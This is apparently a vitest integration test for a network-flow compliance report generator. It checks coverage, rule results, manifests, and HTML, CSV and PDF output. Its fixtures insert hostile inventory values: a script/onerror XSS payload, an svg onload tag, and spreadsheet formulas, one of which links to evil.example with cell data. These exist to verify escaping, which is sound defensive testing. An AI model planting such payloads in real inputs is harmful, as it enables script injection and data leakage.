import { createHash } from 'node:crypto';
import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runHourlyAnalytics } from '../../jobs/hourly-analytics.ts';
import { deliverSamples } from '../../cli/commands/demo-command.ts';
import { main } from '../../cli/main.ts';
import type { ComplianceReport } from '../../lib/reports/compliance-report.ts';
import { createLakeFixture, REPO_ROOT, SAMPLE_REFERENCE, type LakeFixture } from '../support/lake-fixture.ts';
import { chromium, checkLayout, inkStats, printToPdf, renderInChromium, visibleText } from './support/chromium.ts';
import { formatBytes } from '../../lib/format/format-bytes.ts';

/**
 * The compliance audit of 2024-05-01T12..16 over the sample lake, made with `netflow report`:
 * 13 and 14 published (late: the samples were published long after their hours), 15 failed (a
 * broken model), 12 and 16 missing. Two VM names are hostile: one is HTML, one a spreadsheet formula.
 */
const HOSTILE_HTML = `<script>document.title='pwned'</script><img src=x onerror="document.title='pwned'">app-2`;
const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"batch-1")';
const HOSTILE_TAG = '<svg onload="document.title=1">';
const FORMULA_TAG = '+SUM(1+1)';

let lake: LakeFixture;
let outDir: string;
let report: ComplianceReport;
let stdout = '';
let stderr = '';
let exitCode: number;
let configFile: string;

beforeAll(async () => {
  lake = await createLakeFixture();
  const inventory = path.join(lake.dir, 'inventory.yaml');
  const original = await readFile(path.join(SAMPLE_REFERENCE, 'inventory.yaml'), 'utf8');
  await writeFile(inventory, original
    .replace('vm_name: app-2', `vm_name: ${JSON.stringify(HOSTILE_HTML)}`)
    .replace(/(vm_name: "<script>[^\n]*\n(?:.*\n)*?\s+tags: \[vm, app)\]/, `$1, ${JSON.stringify(HOSTILE_TAG)}, ${JSON.stringify(FORMULA_TAG)}]`).replace('vm_name: batch-1', `vm_name: ${JSON.stringify(HOSTILE_FORMULA)}`));
  await deliverSamples({ store: lake.store });
  configFile = path.join(lake.dir, 'netflow.config.yaml');
  await writeFile(
    configFile,
    [
      `store: { type: local, path: ${JSON.stringify(path.join(lake.dir, 'lake'))} }`,
      `ledger: { path: ${JSON.stringify(lake.config.ledger.path)} }`,
      `work_dir: ${JSON.stringify(lake.config.work_dir)}`,
      `duckdb: { memory_limit: 1GB, max_temp_directory_size: 2GB, threads: 2 }`,
      `reference: { inventory: ${JSON.stringify(inventory)}, ip_ranges: ${JSON.stringify(path.join(SAMPLE_REFERENCE, 'ip-ranges.yaml'))} }`,
      `rules: ${JSON.stringify(path.join(SAMPLE_REFERENCE, 'rules.yaml'))}`,
      `reports: { controls: ${JSON.stringify(path.join(SAMPLE_REFERENCE, 'controls.yaml'))}, top_anomalies: 1 }`,
      '',
    ].join('\n'),
  );
  lake.config.reference.inventory = inventory;
  for (const hour of ['2024-05-01T13', '2024-05-01T14']) expect((await lake.runHour(hour)).status).toBe('published');
  const broken = path.join(lake.dir, 'sql');
  await cp(path.join(REPO_ROOT, 'sql'), broken, { recursive: true });
  const alerts = path.join(broken, 'marts', 'rule_alerts.sql');
  await writeFile(alerts, (await readFile(alerts, 'utf8')).replace('count(distinct connection) as flow_count', 'count(no_such_column) as flow_count'));
  expect((await lake.runHour('2024-05-01T15', { sqlDir: broken })).status).toBe('failed');
  await runHourlyAnalytics({ config: lake.config, baseDir: lake.dir, store: lake.store, logger: lake.logger, from: new Date('2024-05-01T13:00:00Z'), to: new Date('2024-05-01T15:00:00Z') });

  outDir = path.join(lake.dir, 'out');
  await mkdir(outDir);
  const io = { stdout: (text: string) => void (stdout += text), stderr: (text: string) => void (stderr += text), cwd: lake.dir, env: {} };
  exitCode = await main(['report', 'compliance', '--from', '2024-05-01T12', '--to', '2024-05-01T16', '--out', outDir, '--config', configFile], io);
  report = JSON.parse(await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.json'), 'utf8')) as ComplianceReport;
}, 180_000);

afterAll(async () => {
  await lake?.cleanup();
});

describe('compliance audit report', () => {
  test('netflow report writes every format to a generation folder of reports/compliance/<date>/ and prints the keys with their SHA-256, the manifest last', async () => {
    // Written, with the warning code: three of the five hours are not published.
    expect(exitCode).toBe(4);
    // Logs are JSON lines on stderr too; the warning is a line of its own.
    expect(stderr.split('\n').filter((line) => line.startsWith('warning:'))).toEqual(['warning: 3 of 5 hour(s) of this period are not published (1 failed, 2 missing, 0 not yet due): the figures cover the 2 published hour(s) only.']);
    const keys = stdout.trim().split('\n').map((line) => line.split('  ')[0]!.replace(/^(reports\/compliance\/2024-05-01\/)[^/]+\//, '$1<generation>/'));
    expect(keys).toEqual(expect.arrayContaining([
      'reports/compliance/2024-05-01/<generation>/compliance-2024-05-01T12_2024-05-01T16.html',
      'reports/compliance/2024-05-01/<generation>/compliance-2024-05-01T12_2024-05-01T16.json',
      'reports/compliance/2024-05-01/<generation>/compliance-2024-05-01T12_2024-05-01T16-offenders.csv',
      'reports/compliance/2024-05-01/<generation>/compliance-2024-05-01T12_2024-05-01T16-inputs.csv',
    ]));
    expect(keys.at(-1)).toBe('reports/compliance/2024-05-01/<generation>/_report-manifest.json');
    for (const line of stdout.trim().split('\n')) {
      const [key, sha] = line.split('  ');
      const body = (await lake.store.getBytes(key!))!;
      expect(`sha256:${createHash('sha256').update(body).digest('hex')}`).toBe(sha);
    }
  });

  test('coverage shows the gaps: late, failed and missing hours, from the ledger and the manifests', () => {
    expect(report.summary).toMatchObject({ hours_expected: 5, hours_published: 2, hours_late: 2, hours_failed: 1, hours_missing: 2, hours_pending: 0 });
    expect(report.coverage.map((hour) => [hour.hour, hour.status, hour.attempts])).toEqual([
      ['2024-05-01T12', 'missing', 0],
      ['2024-05-01T13', 'late', 1],
      ['2024-05-01T14', 'late', 1],
      ['2024-05-01T15', 'failed', 1],
      ['2024-05-01T16', 'missing', 0],
    ]);
    expect(report.coverage[3]!.last_error).toMatch(/model rule_alerts .* failed/);
    expect(report.coverage[1]).toMatchObject({ in_ledger: true, flows: 436 });
  });

  test('an incomplete period is stated first; an empty one too, and both exit 4', async () => {
    expect(report.completeness).toEqual({ status: 'partial', message: expect.stringMatching(/^3 of 5 hour\(s\) of this period are not published/) });
    const html = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'utf8');
    expect(html.indexOf('id="completeness"')).toBeGreaterThan(0);
    expect(html.indexOf('id="completeness"')).toBeLessThan(html.indexOf('id="summary"'));
    const empty = path.join(lake.dir, 'out-empty');
    let errors = '';
    const code = await main(['report', 'compliance', '--from', '2024-05-03', '--to', '2024-05-03', '--out', empty, '--format', 'json', '--config', configFile], { stdout: () => {}, stderr: (text) => void (errors += text), cwd: lake.dir, env: {} });
    expect(code).toBe(4);
    expect(errors).toMatch(/^warning: No hour of this period is published \(24 hour\(s\): 0 failed, 24 missing, 0 not yet due\)/m);
    const emptyReport = JSON.parse(await readFile(path.join(empty, 'compliance-2024-05-03.json'), 'utf8')) as ComplianceReport;
    expect(emptyReport.completeness.status).toBe('empty');
    expect(emptyReport.rules.map((rule) => rule.status)).toEqual(['no_data', 'no_data', 'no_data', 'no_data', 'no_data']);
  });

  test('pass or fail per rule and per control of the mapping file', () => {
    expect(report.rules.map((rule) => [rule.rule_id, rule.status])).toEqual([
      ['no-admin-ports-from-internet', 'fail'],
      ['sql-only-from-app-1', 'fail'],
      ['datastore-only-from-vms', 'fail'],
      ['known-endpoints-only', 'fail'],
      // The Azure SQL server's rule: no Azure flow in these hours of the samples (they are on 2024-05-02).
      ['azure-sql-only-from-az-app-1', 'pass'],
    ]);
    expect(report.controls!.version).toBe('2024-05-01');
    const controls = report.controls!.assessments;
    expect(controls.map((c) => `${c.framework_id} ${c.control_id}`)).toEqual([
      'pci-dss-4.0 1.3.1', 'pci-dss-4.0 1.3.2', 'pci-dss-4.0 1.4.1', 'nist-800-53-r5 SC-7', 'nist-800-53-r5 SC-7(5)', 'cis-controls-v8 4.4', 'cis-controls-v8 12.2', 'cis-controls-v8 13.4',
    ]);
    expect(controls.every((c) => c.status === 'fail' && c.failing_rules.length === c.rules.length && c.unknown_rules.length === 0)).toBe(true);
  });

  test('every anomaly is counted and listed in JSON and CSV; the page says how many it shows', async () => {
    expect(report.anomalies.all).toHaveLength(report.anomalies.total);
    expect(report.summary.anomalies).toBe(report.anomalies.total);
    expect(report.anomalies.shown).toBe(Math.min(1, report.anomalies.total));
    const csv = parseCsv(await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16-anomalies.csv'), 'utf8')).filter((row) => row.length > 1);
    expect(csv).toHaveLength(report.anomalies.total + 1);
    const html = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'utf8');
    expect(html).toContain(`Showing the top ${report.anomalies.shown} of ${report.anomalies.total} anomalies`);
  });

  test('per rule: evaluated, conformant and violating counts; totals; trend per hour', () => {
    const rules = Object.fromEntries(report.rules.map((rule) => [rule.rule_id, [rule.violating, rule.alerts]]));
    // Connections, not observer records: app-2's five connections to sql-1 are reported by both
    // agents (10 records, 10 rows of violations) and are five violations, as the alert's flow_count.
    expect(rules).toEqual({ 'no-admin-ports-from-internet': [2, 2], 'sql-only-from-app-1': [5, 1], 'datastore-only-from-vms': [3, 1], 'known-endpoints-only': [1, 1], 'azure-sql-only-from-az-app-1': [0, 0] });
    for (const rule of report.rules) expect(rule.conformant + rule.violating).toBe(rule.evaluated);
    // 857 records, of which 125 are the second agent's report of an app → sql-1 connection: 732 connections.
    expect(report.summary).toMatchObject({ flows: 732, violations: 11, alerts: 5 });
    const sqlTrend = report.trend.filter((t) => t.rule_id === 'sql-only-from-app-1').map((t) => [t.bucket, t.violating]);
    expect(sqlTrend).toEqual([['2024-05-01T13', 5], ['2024-05-01T14', 0]]);
  });

  test('top offenders and evidence samples lead back to the raw records', () => {
    expect(report.top_offenders[0]).toMatchObject({ src_ip: '10.0.2.11', vm_name: HOSTILE_HTML, violations: 5, rules: ['sql-only-from-app-1'] });
    expect(report.top_offenders[0]!.tags).toEqual(expect.arrayContaining([HOSTILE_TAG, FORMULA_TAG, 'vm', 'app']));
    expect(report.top_offenders[1]).toMatchObject({ src_ip: '10.0.5.20', vm_name: HOSTILE_FORMULA, violations: 3 });
    const sql = report.evidence.filter((e) => e.rule_id === 'sql-only-from-app-1');
    expect(sql).toHaveLength(5);
    // Five connections, each shown once (by the record that counts it: sql-1's agent), not one connection by both agents.
    expect(new Set(sql.map((e) => `${e.src_ip}:${e.src_port}`)).size).toBe(5);
    for (const e of report.evidence) expect(e.raw_object_key).toMatch(/^raw\//);
  });

  test('rules and reference versions in force, and an input manifest anyone can verify against the lake', async () => {
    const rulesBytes = await readFile(path.join(SAMPLE_REFERENCE, 'rules.yaml'));
    const rulesSha = createHash('sha256').update(rulesBytes).digest('hex');
    expect(report.rules_in_force.current).toMatchObject({ sha256: rulesSha, version: '2024-05-01', rules: 5 });
    expect(report.rules_in_force.observed).toEqual([expect.objectContaining({ rules_hash: rulesSha, hours: 2, first_hour: '2024-05-01T13', last_hour: '2024-05-01T14' })]);
    const tables = new Set(report.inputs.map((input) => input.table));
    expect([...tables].sort()).toEqual(['alerts', 'anomalies', 'capacity_hourly', 'flows', 'late_records', 'quarantine', 'traffic_matrix', 'violations']);
    expect(report.inputs.filter((input) => input.table === 'flows').map((input) => `${input.dt}T${input.hour}`)).toEqual(['2024-05-01T13', '2024-05-01T14']);
    for (const input of report.inputs) {
      const body = await lake.store.getBytes(input.key);
      expect(createHash('sha256').update(body!).digest('hex')).toBe(input.sha256);
    }
  });

  test('CSV: a cell that would start a formula is escaped', async () => {
    const csv = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16-offenders.csv'), 'utf8');
    const cells = parseCsv(csv).flat();
    expect(cells).toContain(`'${HOSTILE_FORMULA}`);
    // Tags are joined with ';' in one cell, sorted: the formula-looking tag comes first and is escaped.
    expect(cells.some((cell) => cell.startsWith(`'${FORMULA_TAG};`))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    for (const name of ['coverage', 'rules', 'evidence', 'inputs', 'summary', 'trend', 'controls', 'anomalies']) {
      const all = parseCsv(await readFile(path.join(outDir, `compliance-2024-05-01T12_2024-05-01T16-${name}.csv`), 'utf8')).flat();
      expect(all.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    }
  });

  test('HTML: self-contained, escaped, prints', async () => {
    const html = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'utf8');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;svg onload=&quot;document.title=1&quot;&gt;');
    expect(html.match(/<svg /g)?.length).toBe(7);
    expect(html).toContain('&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;');
    expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'");
    expect(html).toMatch(/@media print/);
    expect(html).not.toMatch(/(src|href)\s*=\s*["']?(https?:)?\/\//i);
    expect(html).toMatch(/<svg[^>]*aria-label="Hours of the period by publication status"/);
  });

  chromium.it('rendered in headless Chromium: not blank, the key numbers on the page, nothing injected', async () => {
    const { dom, png } = await renderInChromium(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'));
    expect(dom).not.toMatch(/<script|<img/);
    expect(dom).toMatch(/<title>Compliance audit 2024-05-01T12/);
    const stat = (id: string) => new RegExp(`id="${id}"><div class="value">([^<]*)</div>`).exec(dom)?.[1];
    expect([stat('hours-expected'), stat('hours-published'), stat('hours-late'), stat('hours-failed'), stat('hours-missing'), stat('flows'), stat('violations'), stat('alerts')]).toEqual(['5', '2', '2', '1', '2', '732', '11', '5']);
    const text = visibleText(dom);
    expect(dom.match(/<svg /g)?.length).toBe(7);
    for (const needle of ['sql-only-from-app-1', '10.0.2.11', HOSTILE_HTML, HOSTILE_FORMULA, HOSTILE_TAG, FORMULA_TAG, 'failed', 'missing', report.rules_in_force.current.sha256, report.inputs[0]!.sha256]) expect(text).toContain(needle);
    const ink = inkStats(png);
    expect(ink.width).toBe(1280);
    expect(ink.inked).toBeGreaterThan(0.03);
    expect(ink.colors).toBeGreaterThan(20);
    expect(ink.variance).toBeGreaterThan(100);
  });

  test('network views: traffic per segment pair over time, the segment matrix, top talkers, rejected traffic by port', () => {
    const net = report.network;
    expect(new Set(net.pairs_over_time.map((p) => new Date(p.hour_at).toISOString().slice(0, 13)))).toEqual(new Set(['2024-05-01T13', '2024-05-01T14']));
    expect(net.matrix.some((m) => m.src_group === 'web' && m.dst_group === 'app' && m.bytes > 0)).toBe(true);
    expect(net.top_talkers.length).toBeGreaterThan(0);
    for (let i = 1; i < net.top_talkers.length; i++) expect(net.top_talkers[i - 1]!.bytes).toBeGreaterThanOrEqual(net.top_talkers[i]!.bytes);
    expect(net.rejected_by_port.reduce((sum, r) => sum + r.flows, 0)).toBeGreaterThan(0);
  });

  chromium.it('laid out in Chromium: the numbers on the page, no word broken inside a cell, readable axes; a screenshot kept', async () => {
    const layout = await checkLayout(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'compliance');
    expect(layout.cells).toBeGreaterThan(100);
    expect(layout.brokenWords).toEqual([]);
    expect(layout.axes.length).toBeGreaterThanOrEqual(3);
    for (const axis of layout.axes) {
      expect(axis.ticks.length, axis.chart).toBeGreaterThanOrEqual(2);
      expect(new Set(axis.ticks).size, `${axis.chart}: ${axis.ticks.join(' ')}`).toBe(axis.ticks.length);
    }
    const text = visibleText(layout.dom);
    const talker = report.network.top_talkers[0]!;
    for (const needle of ['Segment-to-segment traffic (bytes)', 'Top talkers by bytes sent', 'Rejected traffic by destination port', talker.src_ip, formatBytes(talker.bytes), `Showing the top ${report.anomalies.shown} of ${report.anomalies.total} anomalies`]) expect(text).toContain(needle);
    expect(text).toContain('3 of 5 hour(s) of this period are not published');
  });

  chromium.it('printed from Chromium: A4 pages (the print CSS applies)', async () => {
    const pdf = (await printToPdf(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'))).toString('latin1');
    expect(pdf.startsWith('%PDF-')).toBe(true);
    const pages = pdf.match(/\/Type\s*\/Page(?!s)/g) ?? [];
    expect(pages.length).toBeGreaterThanOrEqual(2);
    const boxes = [...pdf.matchAll(/\/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]/g)].map((m) => [Math.round(Number(m[1])), Math.round(Number(m[2]))]);
    expect(boxes.length).toBeGreaterThan(0);
    for (const box of boxes) expect(box).toEqual([595, 842]);
  });
});

/** RFC 4180 with quotes; enough for our own output. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}
